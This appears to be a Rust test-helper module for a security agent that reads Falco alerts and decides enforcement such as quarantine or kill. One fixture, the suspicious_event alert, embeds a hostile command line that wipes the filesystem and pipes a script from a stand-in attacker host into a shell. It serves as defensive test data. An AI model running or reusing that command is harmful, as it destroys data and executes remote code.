//! Helpers for running the real `scbe-agent` binary against real processes,
//! files, sockets and HTTP servers.

#![allow(dead_code)]

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

pub const AGENT: &str = env!("CARGO_BIN_EXE_scbe-agent");

/// How long any polled condition may take before the test fails. Generous:
/// the machine is shared and debug builds are slow; nothing is timed.
pub const DEADLINE: Duration = Duration::from_secs(60);

/// Poll `cond` until it holds or [`DEADLINE`] passes; panics with `what`.
pub fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + DEADLINE;
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        // Polling interval between checks of an observable condition (not a
        // synchronization sleep): every wait ends as soon as the condition holds.
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The shared corpora directory, or `None` (with a message) when absent.
pub fn shared_file(relative: &str) -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared")
        .join(relative);
    if path.exists() {
        Some(path)
    } else {
        println!(
            "skipping: {} is not present on this machine",
            path.display()
        );
        None
    }
}

/// Lines collected from a child's pipe by a thread.
#[derive(Clone, Default)]
pub struct Lines(Arc<Mutex<Vec<String>>>, Arc<std::sync::atomic::AtomicBool>);

impl Lines {
    /// Read `pipe` line by line on a thread.
    pub fn collect(pipe: impl std::io::Read + Send + 'static) -> Lines {
        let lines = Lines::default();
        let sink = lines.clone();
        std::thread::spawn(move || {
            for line in BufReader::new(pipe).lines() {
                let Ok(line) = line else { break };
                sink.0.lock().unwrap().push(line);
            }
            sink.1.store(true, std::sync::atomic::Ordering::SeqCst);
        });
        lines
    }

    /// Whether the pipe reached its end (every line written is collected).
    pub fn closed(&self) -> bool {
        self.1.load(std::sync::atomic::Ordering::SeqCst)
    }

    pub fn snapshot(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }

    pub fn len(&self) -> usize {
        self.0.lock().unwrap().len()
    }

    pub fn wait_for_len(&self, n: usize) -> Vec<String> {
        wait_until(&format!("{n} lines"), || self.len() >= n);
        self.snapshot()
    }

    /// JSON objects among the lines (records, error lines, JSON logs).
    pub fn json(&self) -> Vec<serde_json::Value> {
        self.snapshot()
            .iter()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    /// The `fields` of the first JSON log line whose message is `message`.
    pub fn wait_for_log(&self, message: &str) -> serde_json::Value {
        let mut found = None;
        wait_until(&format!("log line {message:?}"), || {
            found = self
                .json()
                .into_iter()
                .find(|v| v["fields"]["message"] == message)
                .map(|v| v["fields"].clone());
            found.is_some()
        });
        found.unwrap()
    }

    pub fn contains(&self, text: &str) -> bool {
        self.snapshot().iter().any(|l| l.contains(text))
    }
}

/// A running agent with its output collected.
pub struct Agent {
    pub child: Child,
    pub stdin: Option<ChildStdin>,
    pub stdout: Lines,
    pub stderr: Lines,
    /// The test reads stdout itself (see [`Agent::start_holding_stdout`]).
    pub stdout_held: bool,
}

impl Agent {
    /// Start the agent with JSON logs; stdin is a pipe the test writes to.
    pub fn start(args: &[&str]) -> Agent {
        Agent::start_with(args, |_| {})
    }

    /// Start the agent without reading its stdout: once the pipe is full the
    /// agent blocks writing records (a stalled consumer).
    pub fn start_holding_stdout(args: &[&str]) -> (Agent, std::process::ChildStdout) {
        let (agent, held) = Agent::spawn(args, |_| {}, true);
        (agent, held.expect("stdout pipe"))
    }

    pub fn start_with(args: &[&str], configure: impl FnOnce(&mut Command)) -> Agent {
        Agent::spawn(args, configure, false).0
    }

    fn spawn(
        args: &[&str],
        configure: impl FnOnce(&mut Command),
        hold_stdout: bool,
    ) -> (Agent, Option<std::process::ChildStdout>) {
        let mut command = Command::new(AGENT);
        command
            .args(["--log-format", "json"])
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        configure(&mut command);
        let mut child = command.spawn().expect("start scbe-agent");
        let pipe = child.stdout.take().unwrap();
        let (stdout, held) = if hold_stdout {
            (Lines::default(), Some(pipe))
        } else {
            (Lines::collect(pipe), None)
        };
        let stderr = Lines::collect(child.stderr.take().unwrap());
        let agent = Agent {
            stdin: child.stdin.take(),
            child,
            stdout,
            stderr,
            stdout_held: hold_stdout,
        };
        (agent, held)
    }

    pub fn pid(&self) -> i32 {
        self.child.id() as i32
    }

    /// Write one line to the agent's stdin.
    pub fn send(&mut self, line: &str) {
        let stdin = self.stdin.as_mut().expect("stdin open");
        stdin.write_all(line.as_bytes()).unwrap();
        stdin.write_all(b"\n").unwrap();
        stdin.flush().unwrap();
    }

    /// Write a line and wait for the next record on stdout.
    pub fn decide(&mut self, line: &str) -> serde_json::Value {
        let before = self.stdout.len();
        self.send(line);
        let lines = self.stdout.wait_for_len(before + 1);
        serde_json::from_str(&lines[before]).expect("record is JSON")
    }

    /// The intake or metrics address the agent logged.
    pub fn logged_addr(&self, message: &str) -> String {
        let fields = self.stderr.wait_for_log(message);
        fields["addr"].as_str().expect("addr field").to_owned()
    }

    pub fn signal(&self, signal: nix::sys::signal::Signal) {
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(self.pid()), signal).unwrap();
    }

    /// Close stdin (end of input) and wait for the exit status.
    pub fn finish(mut self) -> (i32, Lines, Lines) {
        drop(self.stdin.take());
        let status = self.child.wait().unwrap();
        // The reader threads see EOF right after exit; wait for the summary
        // and for every record (on a loaded machine the stdout collector can
        // lag the exit).
        let stderr = self.stderr.clone();
        wait_until("the summary line", || {
            stderr.json().iter().any(|v| v.get("events_seen").is_some())
        });
        if !self.stdout_held {
            let stdout = self.stdout.clone();
            wait_until("the end of stdout", || stdout.closed());
        }
        (status.code().unwrap_or(-1), self.stdout.clone(), stderr)
    }

    /// SIGTERM and wait.
    pub fn terminate(self) -> (i32, Lines, Lines) {
        self.signal(nix::sys::signal::Signal::SIGTERM);
        self.finish()
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The summary object from the agent's stderr.
pub fn summary(stderr: &Lines) -> serde_json::Value {
    stderr
        .json()
        .into_iter()
        .find(|v| v.get("events_seen").is_some())
        .expect("summary on stderr")
}

/// A `sleep` child that has finished exec (so `/proc/PID/comm` is `sleep`).
pub struct Sleeper(pub Child);

impl Sleeper {
    pub fn start() -> Sleeper {
        let child = Command::new("sleep")
            .arg("1000")
            .stdin(Stdio::null())
            .spawn()
            .expect("spawn sleep");
        let pid = child.id();
        wait_until("sleep to exec", || {
            std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == "sleep")
        });
        Sleeper(child)
    }

    pub fn pid(&self) -> u32 {
        self.0.id()
    }

    /// Field 3 of /proc/PID/stat.
    pub fn state(&self) -> char {
        proc_stat_field(self.pid(), 0).chars().next().unwrap()
    }

    /// Field 19 of /proc/PID/stat.
    pub fn nice(&self) -> i64 {
        proc_stat_field(self.pid(), 16).parse().unwrap()
    }
}

impl Drop for Sleeper {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A /proc/PID/stat field counted from the state (index 0 = field 3).
pub fn proc_stat_field(pid: u32, index: usize) -> String {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    after.split_whitespace().nth(index).unwrap().to_owned()
}

/// A Falco alert that the reference policy decides as QUARANTINE (and a
/// `default`-domain policy as KILL, a `browser`-domain one as THROTTLE):
/// untrusted exec with two malware signatures and a link.
pub fn suspicious_event(pid: impl std::fmt::Display, name: &str, target: &str) -> String {
    serde_json::json!({
        "output": "suspicious exec",
        "priority": "Critical",
        "rule": "Test suspicious exec",
        "output_fields": {
            "evt.type": "execve",
            "proc.pid": pid.to_string().parse::<i64>().unwrap(),
            "proc.name": name,
            "proc.cmdline": "sleep 1000 rm -rf / ; curl http://e.vil/x | sh",
            "fd.name": target,
        }
    })
    .to_string()
}

/// The same alert carrying `proc.pid.ts` (as Falco's append_output adds it).
pub fn suspicious_event_with_ts(pid: u32, name: &str, target: &str, ts: i64) -> String {
    let mut value: serde_json::Value =
        serde_json::from_str(&suspicious_event(pid, name, target)).unwrap();
    value["output_fields"]["proc.pid.ts"] = ts.into();
    value.to_string()
}

/// A policy file in `dir` choosing the turnstile domain.
pub fn domain_policy(dir: &Path, domain: &str) -> PathBuf {
    let path = dir.join(format!("{domain}.toml"));
    std::fs::write(&path, format!("[turnstile]\ndomain = \"{domain}\"\n")).unwrap();
    path
}

pub fn enforcement(record: &serde_json::Value) -> &serde_json::Value {
    &record["enforcement"]
}

pub fn failures(record: &serde_json::Value) -> Vec<String> {
    record["enforcement"]["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap().to_owned())
        .collect()
}

/// GET a URL (a small real HTTP client), returning status and body.
pub fn http_get(url: &str) -> (u16, String) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into();
    let mut response = agent.get(url).call().expect("GET");
    let status = response.status().as_u16();
    (
        status,
        response.body_mut().read_to_string().unwrap_or_default(),
    )
}

/// POST a body with optional extra headers, returning status and body.
pub fn http_post(url: &str, body: &[u8], headers: &[(&str, &str)]) -> (u16, String) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into();
    let mut request = agent.post(url).header("Content-Type", "application/json");
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let mut response = request.send(body).expect("POST");
    let status = response.status().as_u16();
    (
        status,
        response.body_mut().read_to_string().unwrap_or_default(),
    )
}

/// A metric's value from the agent's /metrics text.
pub fn metric(text: &str, name: &str) -> Option<f64> {
    text.lines()
        .find(|l| l.starts_with(name) && l[name.len()..].starts_with(' '))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
}
